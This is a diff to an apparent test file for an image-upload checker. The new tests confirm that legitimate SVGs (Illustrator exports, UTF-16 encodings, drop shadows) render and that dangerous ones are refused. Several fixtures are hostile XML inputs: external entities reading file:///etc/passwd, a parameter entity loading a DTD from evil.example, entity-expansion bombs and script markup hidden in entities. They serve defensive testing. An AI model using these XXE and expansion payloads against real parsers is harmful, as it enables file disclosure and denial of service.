@@ -81,6 +81,71 @@ describe("accepted pictures", () => {
   });
 });
 
+const illustrator = `<?xml version="1.0" encoding="utf-8"?>
+<!-- Generator: Adobe Illustrator 24.0.1, SVG Export Plug-In -->
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
+	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
+	<!ENTITY ns_svg "http://www.w3.org/2000/svg">
+	<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
+]>
+<svg version="1.1" xmlns:x="&ns_extend;" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="80px" height="60px" viewBox="0 0 80 60">
+<switch><foreignObject requiredExtensions="&ns_extend;"/><g><rect width="80" height="60" fill="#ff6600"/></g></switch>
+</svg>`;
+const orange = svg('<rect width="80" height="60" fill="#ff6600"/>', 'width="80" height="60"');
+const utf16 = (content: string) => Buffer.from(content, "utf16le");
+const shadow = (inside: string) =>
+  svg(
+    `<filter id="s">${inside}</filter><rect width="80" height="60" fill="#ff6600" filter="url(#s)"/>`,
+    'width="80" height="60"',
+  );
+
+test.for([
+  ["Illustrator's", text(illustrator)],
+  [
+    "one with declarations that it doesn't use",
+    text(`<!DOCTYPE svg [
+    <!ENTITY % more SYSTEM "https://evil.example/a.dtd"> %more; <!-- ]> -->
+    <!ATTLIST svg a CDATA "]>"> <!ENTITY used '#ff6600'> <!ENTITY used "no">
+    <!ENTITY other SYSTEM "file:///etc/passwd"> ]><!-- then -->${orange.replace("#ff6600", "&used;")}`),
+  ],
+  ["one behind a long comment", text(`<!-- ${"-> ".repeat(40_000)} -->\n${orange}`)],
+  [
+    "one behind instructions",
+    text(`<?xml version="1.0"?><?xml-stylesheet href="a.css"?>\n${orange}`),
+  ],
+  ["UTF-16", utf16(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${orange}`)],
+  ["UTF-16 in the other order", utf16(`\uFEFF${orange}`).swap16()],
+  ["UTF-16 without a mark", utf16(`<?xml version="1.0"?>${orange}`)],
+  ["UTF-8 behind a mark", text(`\uFEFF${orange}`)],
+  [
+    "a declared encoding",
+    Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><!-- é -->${orange}`, "latin1"),
+  ],
+  [
+    "a shadow of Figma",
+    text(
+      shadow(
+        '<feFlood flood-opacity="0" result="b"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feComposite in2="SourceAlpha" operator="out"/><feBlend in2="b"/><feBlend in="SourceGraphic"/>',
+      ),
+    ),
+  ],
+  [
+    "a shadow of Illustrator",
+    text(
+      shadow(
+        '<feOffset dx="7" dy="7" in="SourceAlpha"/><feGaussianBlur result="blur" stdDeviation="5"/><feFlood flood-color="#000" flood-opacity=".75"/><feComposite in2="blur" operator="in"/><feComposite in="SourceGraphic"/>',
+      ),
+    ),
+  ],
+  ["a shadow in one word", text(shadow('<feDropShadow dx="1" dy="1" stdDeviation="1"/>'))],
+] as const)("a drawing is drawn: %s", async ([, bytes]) => {
+  const { bytes: drawn, width, height } = await checkPicture(bytes);
+  expect([width, height]).toEqual([1600, 1200]);
+  const { dominant } = await sharp(drawn).stats();
+  expect(dominant.r).toBeGreaterThan(240);
+  expect(dominant.b).toBeLessThan(20);
+});
+
 describe("refused pictures", () => {
   test.for([
     [
@@ -95,7 +160,29 @@ describe("refused pictures", () => {
       /^it can't be decoded as png \(.*pixel limit/,
     ],
     ["a PNG that holds less than it claims", hugePng(2000, 2000), /^it can't be decoded as png/],
-    ["an SVG that multiplies entities", text(bomb), /^it is .*, not JPEG/],
+    [
+      "an SVG that multiplies entities",
+      text(bomb),
+      /^it can't be drawn as SVG \(its entity j is no text\)$/,
+    ],
+    [
+      "an SVG that repeats a long entity",
+      text(
+        `<!DOCTYPE svg [<!ENTITY a "${"x".repeat(10_000)}">]>${svg(`<text>${"&a;".repeat(1000)}</text>`)}`,
+      ),
+      /^it can't be drawn as SVG \(its entities make it larger than 1 MB\)$/,
+    ],
+    [
+      "an SVG that names a file",
+      text(`<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg("<text>&a;</text>")}`),
+      /^it can't be drawn as SVG \(its entity a is no text\)$/,
+    ],
+    [
+      "an SVG with markup in an entity",
+      text(`<!DOCTYPE svg [<!ENTITY a "<script/>">]>${svg("&a;")}`),
+      /^it can't be drawn as SVG \(its entity a is no text\)$/,
+    ],
+    ["another kind of XML", text('<?xml version="1.0"?><rss/>'), /^it is .*, not JPEG/],
     [
       "an SVG of a million pixels each way",
       text(svg("", 'width="1000000" height="1000000"')),
@@ -123,8 +210,14 @@ describe("refused pictures", () => {
   });
 
   test.for([
-    ["a filter", '<filter id="f"><feTurbulence/></filter>', "it has a filter"],
-    ["a filter under another name", "<x:filter/>", "it has a filter"],
+    ["noise", '<filter id="f"><feTurbulence/></filter>', "it has a filter other than a shadow"],
+    ["noise under another name", "<x:feTurbulence/>", "it has a filter other than a shadow"],
+    [
+      "a picture in a filter",
+      '<filter id="f"><feImage href="a.png"/></filter>',
+      "it has a filter other than a shadow",
+    ],
+    ["many filters", '<g filter="url(#f)"/>'.repeat(16), "it has more than 5 filters"],
     ["many elements", "<g/>".repeat(5001), "it has more than 5000 elements"],
     ["a megabyte", `<!--${"x".repeat(1024 * 1024)}-->`, "it is larger than 1 MB"],
   ] as const)("an SVG with %s, without rendering it", async ([, inside, reason]) => {
